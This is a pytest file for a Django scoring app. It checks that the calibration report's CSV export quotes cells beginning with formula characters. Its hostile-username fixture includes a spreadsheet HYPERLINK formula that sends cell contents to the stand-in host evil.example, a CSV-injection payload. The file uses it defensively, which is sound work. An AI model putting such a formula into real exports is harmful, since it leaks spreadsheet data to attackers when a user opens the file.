"""The calibration CSV never hands a spreadsheet a formula (OWASP "CSV Injection").

A cell that begins with = + - @, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets. Text cells that begin so get a leading single quote; numbers,
negative severities included, stay numbers.
"""

import csv
import io

import pytest
from django.contrib.auth.models import User

from scoring.reports.exports import report_csv
from scoring.reports.models import CalibrationReport
from tests.factories import rated_session
from tests.scoring.calibration_report_helpers import report_url, succeeded_report

SCORECARDS_URL = "/api/v1/scorecards/"

pytestmark = pytest.mark.django_db

# "=..." cannot pass Django's username validator ([\w.@+-]) but can be written by other paths;
# the other three are valid usernames anyone could be given.
HOSTILE_USERNAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd", "-x", "@x"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_usernames_that_start_a_formula_are_quoted_in_the_exported_csv(recruiter, client_for):
    users = [User.objects.create_user(username=name, password="x") for name in HOSTILE_USERNAMES]
    first = rated_session(interviewers=[users[0]], questions=1, criteria_per_question=1)
    plans = [first] + [
        rated_session(interviewers=[u], loop=first.loop, questions=1, criteria_per_question=1)
        for u in users[1:]
    ]
    for user, plan in zip(users, plans, strict=True):
        response = client_for(user).post(SCORECARDS_URL, plan.body(), format="json")
        assert response.status_code == 201, response.json()
    report = succeeded_report(client_for(recruiter))

    response = client_for(recruiter).get(report_url(report.pk, "export/"), {"format": "csv"})

    assert response.status_code == 200
    usernames = {row["username"] for row in _rows(response.content.decode())}
    assert usernames == {"'" + name for name in HOSTILE_USERNAMES}


def test_text_cells_are_escaped_and_numbers_stay_numbers():
    result = {
        "interviewers": [
            {
                "id": 7,
                "username": "\tcmd",
                "scorecards": 3,
                "ratings": 12,
                "mean_rating": 1.5,
                "sd_rating": 0.5,
                "severity": -0.75,
                "severity_se": 0.25,
                "recommendation_counts": {"no": 3},
                "decided_loops": 2,
                "decision_agreement": 0.5,
                "flags": ["lenient"],
                "amended_after_peer_view": 1,
            },
            {"id": 8, "username": "\rcmd", "severity": -2, "flags": []},
            {"id": 9, "username": "plain_name", "severity": None, "flags": []},
        ]
    }

    rows = _rows(report_csv(result))

    assert [row["username"] for row in rows] == ["'\tcmd", "'\rcmd", "plain_name"]
    assert [row["severity"] for row in rows] == ["-0.7500", "-2", ""]
    assert rows[0]["flags"] == "lenient"


def test_a_stored_result_with_a_hostile_flag_is_escaped(recruiter, client_for):
    report = CalibrationReport.objects.create(
        status="succeeded",
        result={"interviewers": [{"id": 1, "username": "ok", "flags": ["=1+1"]}]},
    )

    response = client_for(recruiter).get(report_url(report.pk, "export/"), {"format": "csv"})

    assert _rows(response.content.decode())[0]["flags"] == "'=1+1"


def test_a_row_carries_the_interviewers_drift_after_the_other_columns():
    result = {
        "interviewers": [
            {"id": 7, "username": "-dave", "severity": -0.5, "flags": [], "ratings": 40},
            {"id": 8, "username": "erin", "severity": None, "flags": ["disconnected"]},
        ],
        "drift": [
            {
                "id": 7,
                "drifting": True,
                "periods": [
                    {"period": "2026-Q1", "move": 0.125, "move_se": 0.05},
                    {"period": "2026-Q2", "move": -0.375, "move_se": 0.1},
                ],
            }
        ],
    }

    lines = report_csv(result).split("\r\n")

    assert lines[0].endswith(
        ",amended_after_peer_view,drifting,drift_periods,largest_move,largest_move_se,"
        "largest_move_period"
    )
    # The largest move is the one largest in size, negative here; it stays a number.
    assert lines[1] == "7,'-dave,,40,,,-0.5000,,0,0,0,0,,,,,yes,2,-0.3750,0.1000,2026-Q2"
    assert lines[2] == "8,erin,,,,,,,0,0,0,0,,,disconnected,,,,,,"
